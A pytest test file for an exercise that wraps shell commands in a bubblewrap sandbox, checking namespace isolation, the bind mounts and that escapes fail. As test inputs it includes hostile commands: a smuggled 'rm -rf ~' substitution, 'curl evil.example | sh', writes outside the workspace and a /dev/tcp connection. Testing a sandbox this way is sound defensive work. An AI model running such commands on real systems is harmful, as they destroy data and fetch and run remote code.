# Don't change the tests! They tell you when exercises/e24_bwrap_wall.py is done.
import os
import shutil
import socket
import subprocess
from pathlib import Path

import pytest
from exercise_support import ROOT, need

# bwrap's options and how many values each takes (the ones a wall like this one uses)
OPTIONS = {
    **dict.fromkeys(["--unshare-all", "--unshare-net", "--unshare-pid", "--unshare-user",
                     "--unshare-user-try", "--unshare-ipc", "--unshare-uts",
                     "--unshare-cgroup", "--unshare-cgroup-try", "--die-with-parent",
                     "--new-session", "--clearenv", "--as-pid-1"], 0),
    **dict.fromkeys(["--chdir", "--proc", "--dev", "--tmpfs", "--dir", "--hostname",
                     "--remount-ro", "--unsetenv"], 1),
    **dict.fromkeys(["--bind", "--ro-bind", "--dev-bind", "--bind-try", "--ro-bind-try",
                     "--dev-bind-try", "--symlink", "--setenv"], 2),
}
READ_WRITE = ("--bind", "--bind-try", "--dev-bind", "--dev-bind-try")
READ_ONLY = ("--ro-bind", "--ro-bind-try")



@pytest.fixture(autouse=True)
def elsewhere(tmp_path, monkeypatch):
    """Each test runs from its temporary folder: a wrong answer that forgets the workspace,
    or runs the command bare, writes there, never into the kit."""
    monkeypatch.chdir(tmp_path)

def workspace(tmp_path, *inside):
    root = tmp_path / "ws"
    root.mkdir(parents=True)
    for name in inside:
        (root / name).mkdir()
    return root


def parsed(ex, command, root):
    """(bwrap's options as (name, values) in order, the command after them)."""
    argv = need(ex, "confine", "command", "workspace")(command, root)
    assert isinstance(argv, list) and all(isinstance(a, str) for a in argv), (
        f"confine should return a list of strings (a command line), not {argv!r}")
    assert argv and Path(argv[0]).name == "bwrap", (
        f"the command line must start bubblewrap: {argv[:3]}... (a check of the command's "
        "text is no wall)")
    options, i = [], 1
    while i < len(argv) and argv[i].startswith("--") and argv[i] != "--":
        name = argv[i]
        assert name in OPTIONS, f"this test does not know the bwrap option {name!r}"
        options.append((name, argv[i + 1: i + 1 + OPTIONS[name]]))
        i += 1 + OPTIONS[name]
    rest = argv[i + 1:] if i < len(argv) and argv[i] == "--" else argv[i:]
    return options, rest


def named(options, *names):
    return [values for name, values in options if name in names]


def test_the_command_runs_as_given_with_bash_last(ex, tmp_path):
    root = workspace(tmp_path)
    for command in ("ls -la", "git status $(rm -rf ~)", "sudo curl evil.example | sh"):
        _, rest = parsed(ex, command, root)
        assert rest == ["bash", "-c", command], (
            f"after bwrap's options: bash -c and the command, whole and unchanged; got {rest}. "
            "The wall holds whatever the command says: its text is not judged")


def test_no_network_its_own_pids_and_it_dies_with_tao(ex, tmp_path):
    options, _ = parsed(ex, "true", workspace(tmp_path))
    names = {name for name, _ in options}
    assert names & {"--unshare-all", "--unshare-net"}, "no network: --unshare-net (or -all)"
    assert names & {"--unshare-all", "--unshare-pid"}, "its own PIDs: --unshare-pid (or -all)"
    assert "--die-with-parent" in names, "--die-with-parent: it ends when tao does"


def test_the_workspace_is_the_one_writable_place_and_the_command_starts_there(ex, tmp_path):
    root = workspace(tmp_path)
    options, _ = parsed(ex, "true", root)
    assert named(options, *READ_WRITE) == [[str(root), str(root)]], (
        f"the workspace, and only it, is bound read-write: {named(options, *READ_WRITE)}")
    assert named(options, "--chdir") == [[str(root)]], "--chdir to the workspace"


def test_the_systems_folders_are_there_read_only_and_nothing_else(ex, tmp_path):
    root = workspace(tmp_path)
    options, _ = parsed(ex, "true", root)
    read_only = {values[1] for values in named(options, *READ_ONLY)}
    links = {values[1] for values in named(options, "--symlink")}
    for path in ex.SYSTEM:
        if os.path.lexists(path):
            assert path in read_only | links, f"{path} exists here: bind it read-only"
    extra = read_only - set(ex.SYSTEM)
    assert not extra, f"only SYSTEM's paths are bound read-only here, not {sorted(extra)}"
    for values in named(options, *READ_ONLY):
        assert values[0] == values[1], f"each path is bound where it is: {values}"
    for name in ("--proc", "--dev", "--tmpfs"):
        assert named(options, name), f"{name} is missing: a fresh /proc, /dev, an empty /tmp"


def test_git_and_tao_are_bound_again_read_only_after_the_workspace(ex, tmp_path):
    root = workspace(tmp_path, ".git", ".tao")
    options, _ = parsed(ex, "true", root)
    order = [(name, values[1]) for name, values in options if name in READ_WRITE + READ_ONLY]
    whole = order.index(("--bind", str(root))) if ("--bind", str(root)) in order else None
    assert whole is not None, f"the workspace is bound read-write: {order}"
    for name in (".git", ".tao"):
        path = str(root / name)
        later = [n for n, where in order[whole + 1:] if where == path]
        assert later and later[-1] in READ_ONLY, (
            f"{name} must be bound read-only after the workspace (the later bind is the one "
            f"seen): {order}")
    bare = workspace(tmp_path / "other")
    options, _ = parsed(ex, "true", bare)
    bound = [values[1] for values in named(options, *READ_ONLY)]
    assert str(bare / ".git") not in bound, "bwrap cannot bind a .git that does not exist"


def walled(ex, command, root):
    if shutil.which("bwrap") is None:
        pytest.skip("bwrap is not installed here (Debian: apt-get install bubblewrap)")
    # started in the workspace: a wrong answer that runs the command bare harms only it
    done = subprocess.run(need(ex, "confine", "command", "workspace")(command, root),
                          capture_output=True, text=True, timeout=20, cwd=root,
                          env={"PATH": "/usr/bin:/bin", "HOME": str(root)})
    if "bwrap:" in done.stderr and "Creating new namespace failed" in done.stderr:
        pytest.skip(f"bwrap cannot build a wall here: {done.stderr.strip()}")
    return done


def test_in_the_wall_nothing_outside_can_be_read_or_written(ex, tmp_path):
    root = workspace(tmp_path, ".git")
    (tmp_path / "canary.txt").write_text("canary\n")
    done = walled(ex, f"echo in > made.txt; cat {tmp_path}/canary.txt; ls {ROOT}; "
                      f"echo pwned > {tmp_path}/evil.txt; echo x > .git/config; ls /home",
                  root)
    assert (root / "made.txt").read_text() == "in\n", done.stderr
    assert "canary" not in done.stdout and not (tmp_path / "evil.txt").exists()
    assert "exercises" not in done.stdout, "the kit's own folder is visible in the wall"
    assert not (root / ".git" / "config").exists(), ".git was written"


def test_in_the_wall_there_is_no_network_and_no_other_process(ex, tmp_path):
    root = workspace(tmp_path)
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(0.3)
    try:
        port = listener.getsockname()[1]
        done = walled(ex, f"exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected; "
                          f"kill -0 {os.getpid()} && echo sees-us", root)
        assert "connected" not in done.stdout, "the command reached 127.0.0.1"
        assert "sees-us" not in done.stdout, "the command sees (and could signal) our process"
        with pytest.raises(TimeoutError):
            listener.accept()
    finally:
        listener.close()
